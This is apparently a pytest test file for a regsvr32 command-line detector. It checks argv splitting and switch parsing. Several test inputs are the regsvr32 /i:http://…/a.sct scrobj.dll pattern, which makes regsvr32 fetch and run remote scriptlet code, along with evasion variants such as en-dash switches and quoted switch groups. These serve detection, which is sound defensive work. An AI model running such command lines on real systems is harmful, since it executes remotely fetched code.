"""Windows argv splitting and regsvr32 switch reading."""
import pytest

from regsvr32_detector.cmdline import parse, split_argv

pytestmark = pytest.mark.pure


@pytest.mark.parametrize("line, argv", [
    ("a b\tc", ["a", "b", "c"]),
    ('a "b c" d', ["a", "b c", "d"]),
    ('/i:"C:\\x y\\a.sct" scrobj.dll', ["/i:C:\\x y\\a.sct", "scrobj.dll"]),
    ('"/i:http://h/a.sct" x', ["/i:http://h/a.sct", "x"]),
    ('a\\\\"b c" d', ["a\\b c", "d"]),            # 2n backslashes + quote: n and a toggle
    ('a\\"b c', ['a"b', "c"]),                    # 2n+1: n and a literal quote
    ('a\\\\b', ["a\\\\b"]),                       # backslashes not before a quote: literal
    ('"a""b" c', ["ab", "c"]),
    ('"unterminated arg', ["unterminated arg"]),
    ('""', [""]),
    ("   ", []),
    ('x\\\\\\"\\"y"z w"', ['x\\""yz w']),
])
def test_split_argv(line, argv):
    assert split_argv(line) == argv


CASES = [
    # line, image, cwd, flags, install arg, module paths (lower-case)
    ("regsvr32 /s /n /u /i:http://h/a.sct scrobj.dll", "regsvr32.exe", "", "insu", "http://h/a.sct",
     ["?:\\windows\\system32\\scrobj.dll"]),
    ("regsvr32 -S -U -I:x.sct scrobj.dll", "regsvr32.exe", "", "isu", "x.sct", ["?:\\windows\\system32\\scrobj.dll"]),
    ("regsvr32 \u2013s \u2014u \u2015i:http://h/a scrobj.dll", "regsvr32.exe", "", "isu", "http://h/a",
     ["?:\\windows\\system32\\scrobj.dll"]),
    ("/u /s /i:https://h/c.sct scrobj.dll", "regsvr32.exe", "", "isu", "https://h/c.sct",
     ["?:\\windows\\system32\\scrobj.dll"]),                        # program name missing
    (" /s C:\\A\\b.dll", "regsvr32.exe", "", "s", None, ["c:\\a\\b.dll"]),
    ("jabber.exe  /u /s /i:http://p/r .\\jabber.dll", "jabber.exe", "c:\\ProgramData\\", "isu", "http://p/r",
     ["c:\\programdata\\jabber.dll"]),
    ("regsvr32 /s/u/i:http://h/a.sct scrobj.dll", "regsvr32.exe", "", "isu", "http://h/a.sct",
     ["?:\\windows\\system32\\scrobj.dll"]),
    ("regsvr32 /s /i \"C:\\A T\\x.dll\"", "regsvr32.exe", "", "is", None, ["c:\\a t\\x.dll"]),
    ("regsvr32\t/s\tpayload.dll", "regsvr32.exe", "C:\\Users\\a\\Downloads", "s", None,
     ["c:\\users\\a\\downloads\\payload.dll"]),
    ("\"C:\\Windows\\system32\\regsvr32.exe\" /s msxml6.dll", "regsvr32.exe", "C:\\Users\\a", "s", None,
     ["?:\\windows\\system32\\msxml6.dll"]),                       # bare system name: System32 first
    ("regsvr32 /s a.dll b.ocx", "regsvr32.exe", "", "s", None, ["a.dll", "b.ocx"]),
    # switches and arguments quoted into one argument are read as their parts
    ("regsvr32.exe \"/s /i:https://h/x.sct scrobj.dll\"", "regsvr32.exe", "", "is", "https://h/x.sct",
     ["?:\\windows\\system32\\scrobj.dll"]),
    ("regsvr32 \"/s C:\\x\\a.dll\"", "regsvr32.exe", "", "s", None, ["c:\\x\\a.dll"]),
    # ...but a quoted /i: path with a blank stays whole
    ("regsvr32 /s /i:\"C:\\Program Files\\V\\a.sct\" scrobj.dll", "regsvr32.exe", "", "is",
     "C:\\Program Files\\V\\a.sct", ["?:\\windows\\system32\\scrobj.dll"]),
    # PowerShell's backtick escape is not part of the path
    ("regsvr32 /s `\"C:\\Users\\a\\scoop\\apps\\lav\\LAVSplitter.ax`\"", "regsvr32.exe", "", "s", None,
     ["c:\\users\\a\\scoop\\apps\\lav\\lavsplitter.ax"]),
    # a spelled-out switch is read as its letter, as regsvr32 reads it
    ("regsvr32.exe -silent ..\\Celod.wac", "regsvr32.exe", "", "s", None, ["..\\celod.wac"]),
]


@pytest.mark.parametrize("line, image, cwd, flags, install, modules", CASES)
def test_parse(line, image, cwd, flags, install, modules):
    inv = parse(line, image, cwd)
    assert "".join(sorted(inv.flags)) == flags
    assert inv.install_arg == install
    assert [m.path.lower() for m in inv.modules] == modules


@pytest.mark.parametrize("line, anomaly", [
    ("regsvr32 \u2013s x.dll", "U+2013 en dash as a switch prefix"),
    ("regsvr32 /s/u/i:x scrobj.dll", "switches run together: /s/u/i:x"),
    ("regsvr32 /s C:\\x\\a.dll,DllEntry", "entry point suffix ,DllEntry"),
])
def test_switch_anomalies(line, anomaly):
    assert anomaly in parse(line, "regsvr32.exe").anomalies


@pytest.mark.parametrize("line, program, args", [
    ("regsvr32.exe", "regsvr32.exe", ()),
    ("\"C:\\Windows\\SysWOW64\\regsvr32.exe\"", "C:\\Windows\\SysWOW64\\regsvr32.exe", ()),
    ("svc /s x.dll", "svc", ("/s", "x.dll")),
    ("C:\\x\\payload.dll", "", ("C:\\x\\payload.dll",)),
])
def test_program_token(line, program, args):
    inv = parse(line, "svc.exe" if line.startswith("svc") else "regsvr32.exe")
    assert inv.program == program and inv.args == args


def test_spelled_out_and_unknown_switches_are_kept_apart():
    inv = parse("regsvr32 -silent /unregister /q /s x.dll", "regsvr32.exe")
    assert inv.spelled_switches == ("-silent", "/unregister") and inv.unknown_switches == ("/q",)
    assert parse("regsvr32 /s /u /n /i:x x.dll", "regsvr32.exe").spelled_switches == ()


def test_quoted_switch_group_is_an_anomaly():
    anomalies = parse('regsvr32 "/s /u /i:http://h/a.sct scrobj.dll"', "regsvr32.exe").anomalies
    assert any(a.startswith("switches and arguments inside one quoted argument") for a in anomalies)


def test_install_arg_that_is_not_a_path_has_no_target():
    assert parse("regsvr32 /n /i:user x.dll", "regsvr32.exe").install is None
    assert parse("regsvr32 /n /i:cbfsconnect2017-Box x.dll", "regsvr32.exe").install is None
    assert parse("regsvr32 /i:a.sct x.dll", "regsvr32.exe").install.ext == "sct"
